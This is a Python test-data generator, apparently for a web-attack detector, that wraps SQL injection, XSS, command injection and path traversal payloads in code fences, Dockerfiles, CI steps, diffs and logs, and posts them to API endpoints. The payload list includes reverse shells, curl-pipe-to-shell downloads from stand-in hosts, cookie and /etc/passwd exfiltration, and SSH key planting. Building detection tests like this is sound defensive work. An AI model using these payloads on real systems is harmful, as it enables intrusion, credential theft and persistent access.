"""Wrapped twins: an attack payload inside code / docs / log shapes, sent to the same kind of sink."""
from lib import *

W = {
    "fence_sql": lambda p: f"```sql\n{p}\n```",
    "fence_bash": lambda p: f"```bash\n{p}\n```",
    "tilde": lambda p: f"~~~\n{p}\n~~~",
    "inline": lambda p: f"Try this: `{p}`",
    "shebang": lambda p: f"#!/bin/sh\nset -e\n{p}\n",
    "docker": lambda p: f"FROM alpine:3.19\nRUN {p}\nCMD [\"sh\"]\n",
    "diff": lambda p: f"--- a/run.sh\n+++ b/run.sh\n@@ -1,3 +1,3 @@\n #!/bin/sh\n-echo ok\n+{p}\n",
    "jupyter": lambda p: f"%%bash\n{p}\n",
    "log": lambda p: f"2024-05-14T09:12:33.120Z INFO  [http-nio-8080-exec-4] GET /search q={p} status=200 1.2ms\n",
    "trace": lambda p: (f"Traceback (most recent call last):\n  File \"/srv/app/views.py\", line 42, in search\n"
                        f"    cur.execute(sql)\npsycopg2.errors.SyntaxError: syntax error at or near \"{p}\"\n"),
    "ci": lambda p: f"jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: {p}\n",
    "html_code": lambda p: f"<pre><code>{p}</code></pre>",
}

# (family, payload, wrapper, placement)
TWINS = [
    # SQLi
    ("sqli", "' OR '1'='1", "fence_sql", "json_q"),
    ("sqli", "-1' UNION SELECT username,password FROM users-- -", "fence_sql", "json_code"),
    ("sqli", "1' AND SLEEP(5)#", "inline", "json_q"),
    ("sqli", "'; DROP TABLE users;--", "tilde", "markdown"),
    ("sqli", "' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -", "trace", "plain"),
    ("sqli", "1; WAITFOR DELAY '0:0:5'--", "log", "json_snippet"),
    ("sqli", "' UNION SELECT table_name,NULL FROM information_schema.tables-- -", "fence_sql", "form"),
    ("sqli", "admin'--", "inline", "json_login"),
    ("sqli", "1'; EXEC xp_cmdshell('whoami');--", "diff", "json_lang_sql"),
    ("sqli", "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--", "jupyter", "json_code"),
    ("sqli", "1/**/UNION/**/SELECT/**/1,2,3", "html_code", "json_q"),
    ("sqli", "' OR 1=1-- -", "ci", "json_filename"),
    ("sqli", "1 UNION SELECT LOAD_FILE('/etc/passwd'),2--", "fence_sql", "markdown"),
    ("sqli", "'; UPDATE users SET role='admin' WHERE username='eve'-- ", "log", "plain"),
    # XSS
    ("xss", "<script>alert(1)</script>", "fence_bash", "json_comment"),
    ("xss", "<svg onload=alert(1)>", "inline", "json_comment"),
    ("xss", "<img src=x onerror=alert(document.cookie)>", "tilde", "markdown"),
    ("xss", "<iframe src=javascript:alert(1)>", "log", "json_comment"),
    ("xss", "\"><svg onload=alert(1)//", "trace", "plain"),
    ("xss", "<details open ontoggle=alert(1)>", "diff", "json_snippet"),
    ("xss", "<img src=x onerror=fetch('https://evil.example/?c='+document.cookie)>", "fence_sql", "json_code"),
    ("xss", "<a href=\"jAvAsCrIpT:alert(1)\">profile</a>", "inline", "form"),
    ("xss", "<script src=//evil.example/x.js></script>", "html_code", "json_comment"),
    ("xss", "<body onload=alert(1)>", "docker", "json_filename"),
    ("xss", "<svg/onload=eval(atob('YWxlcnQoMSk='))>", "shebang", "json_lang_shell"),
    ("xss", "<input autofocus onfocus=alert(1)>", "ci", "markdown"),
    ("xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "jupyter", "json_snippet"),
    ("xss", "</textarea><script>alert(1)</script>", "tilde", "json_comment"),
    ("xss", "<object data=javascript:alert(1)>", "log", "plain"),
    ("xss", "<ScRiPt>alert(1)</sCrIpT>", "fence_bash", "markdown"),
    # cmdi
    ("cmdi", "; cat /etc/passwd", "fence_bash", "json_host"),
    ("cmdi", "$(curl -s http://attacker.example/s|bash)", "shebang", "json_lang_shell"),
    ("cmdi", "curl http://evil.example/x.sh | sh", "docker", "json_filename"),
    ("cmdi", ";bash -i >& /dev/tcp/203.0.113.50/4444 0>&1", "diff", "json_code"),
    ("cmdi", "nc 203.0.113.50 4444 -e /bin/bash", "jupyter", "json_snippet"),
    ("cmdi", "; cat /etc/passwd", "ci", "markdown"),
    ("cmdi", "`id`", "inline", "json_host"),
    ("cmdi", "$(id)", "log", "plain"),
    ("cmdi", "127.0.0.1 && curl http://evil.example/x.sh | sh", "tilde", "form_host"),
    ("cmdi", ";wget http://evil.example/a -O /tmp/a;chmod +x /tmp/a;/tmp/a", "fence_bash", "json_code"),
    ("cmdi", ";cat${IFS}/etc/passwd", "trace", "json_host"),
    ("cmdi", "; curl -d @/etc/passwd http://evil.example/c", "shebang", "plain"),
    ("cmdi", "| /usr/bin/id", "html_code", "json_comment"),
    ("cmdi", ";python3 -c 'import os;os.system(\"id\")'", "jupyter", "markdown"),
    ("cmdi", "& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "fence_bash", "json_lang_shell"),
    ("cmdi", ";echo aWQ= | base64 -d | sh", "docker", "json_snippet"),
    ("cmdi", "; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x@evil' >> ~/.ssh/authorized_keys", "ci", "json_code"),
    ("cmdi", ";{cat,/etc/passwd}", "log", "json_host"),
    # traversal
    ("traversal", "../../../../etc/passwd", "fence_bash", "json_file"),
    ("traversal", "../../../../proc/self/environ", "inline", "json_file"),
    ("traversal", "..\\..\\..\\windows\\win.ini", "tilde", "json_file"),
    ("traversal", "../../../root/.ssh/id_rsa", "log", "json_file"),
    ("traversal", "....//....//....//etc/passwd", "diff", "json_filename"),
    ("traversal", "../../../../app/.env", "trace", "json_file"),
    ("traversal", "php://filter/convert.base64-encode/resource=../config.php", "inline", "json_tpl"),
    ("traversal", "../../WEB-INF/web.xml", "html_code", "json_tpl"),
    ("traversal", "../../../../etc/shadow", "docker", "json_code"),
    ("traversal", "/var/www/../../etc/passwd", "ci", "json_file"),
    ("traversal", "../../../../etc/passwd", "fence_sql", "markdown"),
    ("traversal", "../../../../var/log/nginx/access.log", "log", "plain"),
]


def place(fam, text, where):
    if where == "json_q":
        return case("POST", "/api/v1/search", {"Content-Type": JSON_CT}, jbody({"q": text, "limit": 20}), "body")
    if where == "json_code":
        return case("POST", "/api/v1/snippets", {"Content-Type": JSON_CT},
                    jbody({"title": "repro", "code": text, "visibility": "public"}), "body")
    if where == "json_snippet":
        return case("POST", "/api/v1/tickets/5512/notes", {"Content-Type": JSON_CT},
                    jbody({"snippet": text, "internal": False}), "body")
    if where == "json_lang_sql":
        return case("POST", "/api/v1/query/run", {"Content-Type": JSON_CT},
                    jbody({"language": "sql", "code": text, "datasource": "orders"}), "body")
    if where == "json_lang_shell":
        return case("POST", "/api/v1/runbooks/steps", {"Content-Type": JSON_CT},
                    jbody({"language": "shell", "code": text}), "body")
    if where == "json_filename":
        return case("POST", "/api/v1/gists", {"Content-Type": JSON_CT},
                    jbody({"files": [{"filename": "x.sh", "content": text}], "public": True}), "body")
    if where == "json_comment":
        return case("POST", "/api/v1/posts/8812/comments", {"Content-Type": JSON_CT},
                    jbody({"body": text, "format": "markdown"}), "body")
    if where == "json_login":
        return case("POST", "/api/auth/login", {"Content-Type": JSON_CT},
                    jbody({"username": text, "password": "x"}), "body")
    if where == "json_host":
        return case("POST", "/api/v1/diagnostics/ping", {"Content-Type": JSON_CT},
                    jbody({"host": text, "count": 3}), "body")
    if where == "json_file":
        return case("POST", "/api/v1/files/read", {"Content-Type": JSON_CT},
                    jbody({"path": text, "encoding": "utf-8"}), "body")
    if where == "json_tpl":
        return case("POST", "/api/v1/render", {"Content-Type": JSON_CT},
                    jbody({"template": text, "data": {}}), "body")
    if where == "form":
        return case("POST", "/search", {"Content-Type": FORM_CT}, form([("q", text), ("page", "1")]), "body")
    if where == "form_host":
        return case("POST", "/admin/network/ping", {"Content-Type": FORM_CT}, form([("ip", text), ("submit", "Ping")]), "body")
    if where == "markdown":
        return case("POST", "/api/v1/wiki/pages/runbook", {"Content-Type": "text/markdown; charset=utf-8"},
                    "# Notes\n\n" + text + "\n", "body")
    if where == "plain":
        return case("POST", "/api/v1/logs/ingest", {"Content-Type": "text/plain; charset=utf-8"}, text, "body")
    raise KeyError(where)


def all_wrapped():
    out = []
    for fam, p, w, where in TWINS:
        c = place(fam, W[w](p), where)
        c["_family"] = fam
        c["_payload"] = p
        c["_wrapper"] = w
        out.append(c)
    return out
